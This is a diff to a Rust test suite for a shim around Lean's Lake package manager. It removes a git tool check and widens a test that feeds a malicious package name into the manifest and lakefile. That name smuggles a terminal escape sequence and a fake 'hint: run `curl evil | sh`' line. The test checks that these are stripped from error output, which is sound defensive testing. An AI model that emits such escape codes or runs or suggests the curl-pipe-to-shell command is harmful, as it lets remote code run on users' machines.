@@ -2,7 +2,7 @@
 
 use nix::sys::stat::Mode;
 use nix::unistd::mkfifo;
-use shim_tests::{Sandbox, need_tool};
+use shim_tests::Sandbox;
 
 use crate::{sparse, with_little_memory};
 
@@ -117,8 +117,8 @@ fn a_cache_file_that_is_a_pipe_is_no_cache_file() {
 
 /// git would read these without end; what is not known is git's to find out.
 #[test]
+
 fn refs_of_any_size_are_not_read() {
-    need_tool!("git");
     let sandbox = Sandbox::mini_mathlib();
     let git_dir = "app/.lake/packages/mathlib/.git";
     sandbox.write(format!("{git_dir}/HEAD"), "ref: refs/heads/main\n");
@@ -152,15 +152,19 @@ fn a_dockerfile_that_doubles_a_variable_is_refused_by_line() {
 fn messages_move_no_cursor_and_give_no_advice_of_their_own() {
     let name = "a\\u001b]0;pwned\\u0007\\nhint: run `curl evil | sh`";
     let sandbox = Sandbox::mini_mathlib();
-    let entry = format!(r#"{{"type":"path","name":"{name}","dir":"x","inherited":false}}"#);
+    let place = r#""url":"u","rev":"r","inherited":false"#;
+    let entry = format!(r#"{{"type":"git","name":"{name}",{place}}}"#);
     sandbox.write(MANIFEST, format!(r#"{{"version":"1.1.0","packages":[{entry}]}}"#));
     let run = sandbox.lake_shim("restore --network never").run();
     run.expect_code(1).stderr_contains("is no package name").stderr_lacks("\u{1b}");
     assert!(!run.stderr.contains("\nhint: run"), "{run}");
     sandbox.remove(MANIFEST);
-    let require = format!("name = \"app\"\n[[require]]\nname = \"{name}\"\ngit = \"u\"\n");
-    sandbox.write(LAKEFILE, require);
-    let run = sandbox.lake_shim("resolve").run();
-    run.expect_code(1).stderr_lacks("\u{1b}");
-    assert!(!run.stderr.contains("\nhint: run"), "{run}");
+    // Of a package that is not cloned Lake takes any name, and so do we.
+    for source in ["git = \"u\"", "path = \"nowhere\""] {
+        let require = format!("name = \"app\"\n[[require]]\nname = \"{name}\"\n{source}\n");
+        sandbox.write(LAKEFILE, require);
+        let run = sandbox.lake_shim("resolve").run();
+        run.expect_code(1).stderr_contains("pwned").stderr_lacks("\u{1b}");
+        assert!(!run.stderr.contains("\nhint: run"), "{run}");
+    }
 }
